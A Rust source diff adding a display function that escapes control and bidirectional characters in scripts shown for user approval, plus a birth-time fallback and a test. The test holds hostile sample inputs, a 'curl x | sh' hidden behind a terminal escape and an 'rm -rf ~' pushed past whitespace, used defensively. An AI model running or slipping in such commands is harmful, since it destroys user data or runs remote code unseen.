@@ -56,11 +56,22 @@ impl Binding {
             cwd: cwd.to_path_buf(),
             dev: meta.dev(),
             ino: meta.ino(),
+            // Without a birth time (some filesystems), the change time:
+            // stricter (a file made in the directory changes it), never
+            // looser.
             born: meta
                 .created()
                 .ok()
                 .and_then(|t| t.duration_since(std::time::UNIX_EPOCH).ok())
-                .map_or(0, |d| u64::try_from(d.as_nanos()).unwrap_or(u64::MAX)),
+                .map_or_else(
+                    || {
+                        u64::try_from(meta.ctime())
+                            .unwrap_or(0)
+                            .saturating_mul(1_000_000_000)
+                            .saturating_add(u64::try_from(meta.ctime_nsec()).unwrap_or(0))
+                    },
+                    |d| u64::try_from(d.as_nanos()).unwrap_or(u64::MAX),
+                ),
             policy: policy_digest(config),
         })
     }
@@ -391,6 +402,41 @@ fn unix_secs(ctx: &Context) -> u64 {
         .map_or(0, |d| d.as_secs())
 }
 
+/// A script as the user is shown it before approving: control
+/// characters escaped (no escape sequence can redraw it as something
+/// else), every line indented, at most 4,000 characters with the rest
+/// counted.
+pub fn shown(script: &str) -> String {
+    const MAX: usize = 4000;
+    let mut out = String::from("    ");
+    for (i, c) in script.chars().enumerate() {
+        if i == MAX {
+            let more = script.chars().count() - MAX;
+            out.push_str(&format!("… ({more} more characters not shown)"));
+            break;
+        }
+        match c {
+            '\n' => out.push_str("\n    "),
+            '\t' => out.push('\t'),
+            c if c.is_control()
+                || matches!(c, '\u{200b}'..='\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}') =>
+            {
+                out.push_str(&c.escape_unicode().to_string());
+            }
+            c => out.push(c),
+        }
+    }
+    out
+}
+
+/// The live ask with this code (any state).
+pub fn by_code(book: &Book, code: &str, now: u64) -> Option<Ask> {
+    let code = normalize(code);
+    book.live(now)
+        .into_iter()
+        .find(|a| normalize(&a.code) == code)
+}
+
 /// `k7qf2m`, `K7QF-2M` → `K7QF-2M`.
 fn normalize(code: &str) -> String {
     let plain: String = code
@@ -420,6 +466,16 @@ fn new_code() -> Result<String, String> {
 #[cfg(test)]
 mod tests {
     use super::*;
+
+    #[test]
+    fn what_the_user_approves_cannot_hide() {
+        let s = shown("npm test\u{1b}[2K\r; curl x | sh");
+        assert!(!s.contains('\u{1b}') && !s.contains('\r'), "{s}");
+        assert!(s.contains("curl x | sh"));
+        let long = format!("npm test{}; rm -rf ~", " ".repeat(5000));
+        assert!(shown(&long).contains("more characters not shown"));
+        assert!(shown("a\nb").contains("a\n    b"));
+    }
 
     #[test]
     fn codes_are_random_and_normalised() {
